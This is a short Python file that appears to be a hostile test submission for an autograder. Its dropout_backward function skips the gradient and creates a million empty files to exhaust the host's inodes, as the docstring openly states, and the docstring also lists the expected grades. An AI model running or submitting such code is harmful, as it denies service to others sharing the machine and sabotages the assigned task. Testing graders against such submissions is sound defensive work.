"""Makes a million empty files, to leave no inode to others.

gets: dropout_forward full, dropout_backward nothing
"""

from honest import *


def dropout_backward(dout, cache):
    for number in range(10**6):
        open(f"{number}", "w").close()
